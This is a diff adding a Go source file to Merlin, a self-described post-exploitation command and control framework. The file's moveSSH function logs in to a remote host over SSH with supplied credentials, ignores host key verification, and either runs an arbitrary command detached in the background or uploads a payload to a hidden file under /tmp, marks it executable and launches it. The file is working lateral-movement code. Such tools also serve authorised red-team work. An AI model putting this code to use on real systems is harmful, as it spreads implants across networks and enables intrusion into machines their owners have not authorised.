@@ -0,0 +1,107 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"net"
+	"strings"
+	"time"
+
+	// Sub Repositories
+	"golang.org/x/crypto/ssh"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// moveSSH logs in to the remote host with ssh and either copies the payload to it and starts it in the background, or
+// runs the command in the background, so that it is not stopped when the ssh session ends
+func moveSSH(m messages.Move, payload []byte) (string, error) {
+	host := m.Host
+	if _, _, err := net.SplitHostPort(host); err != nil {
+		host = net.JoinHostPort(strings.Trim(host, "[]"), "22")
+	}
+	user := m.User
+	if m.Domain != "" {
+		user = m.User + "@" + m.Domain
+	}
+	config := &ssh.ClientConfig{
+		User: user,
+		Auth: []ssh.AuthMethod{
+			ssh.Password(m.Secret),
+			ssh.KeyboardInteractive(func(user, instruction string, questions []string, echos []bool) ([]string, error) {
+				answers := make([]string, len(questions))
+				for i := range answers {
+					answers[i] = m.Secret
+				}
+				return answers, nil
+			}),
+		},
+		// The agent has no way to know the remote host's key ahead of time
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(), // #nosec G106
+		Timeout:         30 * time.Second,
+	}
+	client, err := ssh.Dial("tcp", host, config)
+	if err != nil {
+		return "", fmt.Errorf("there was an error connecting to %s with ssh:\r\n%s", host, err.Error())
+	}
+	defer client.Close()
+
+	run := func(command string, stdin []byte) error {
+		session, err := client.NewSession()
+		if err != nil {
+			return fmt.Errorf("there was an error starting an ssh session:\r\n%s", err.Error())
+		}
+		defer session.Close()
+		if stdin != nil {
+			session.Stdin = bytes.NewReader(stdin)
+		}
+		if out, err := session.CombinedOutput(command); err != nil {
+			return fmt.Errorf("there was an error running %q over ssh:\r\n%s %s", command, err.Error(), bytes.TrimSpace(out))
+		}
+		return nil
+	}
+
+	if len(payload) == 0 {
+		if err = run(fmt.Sprintf("nohup /bin/sh -c %s >/dev/null 2>&1 &", shellQuote(m.Command)), nil); err != nil {
+			return "", err
+		}
+		return fmt.Sprintf("Started the command on %s as %s with ssh", m.Host, user), nil
+	}
+	path := m.Path
+	if path == "" {
+		path = "/tmp/." + strings.ToLower(core.RandStringBytesMaskImprSrc(8))
+	}
+	if err = run(fmt.Sprintf("cat > %s && chmod 700 %s", shellQuote(path), shellQuote(path)), payload); err != nil {
+		return "", err
+	}
+	if err = run(fmt.Sprintf("nohup %s >/dev/null 2>&1 &", shellQuote(path)), nil); err != nil {
+		return "", err
+	}
+	return fmt.Sprintf("Copied the %d byte payload to %s on %s as %s with ssh and started it", len(payload), path,
+		m.Host, user), nil
+}
+
+// shellQuote quotes a string as a single argument for a POSIX shell
+func shellQuote(s string) string {
+	return "'" + strings.Replace(s, "'", `'\''`, -1) + "'"
+}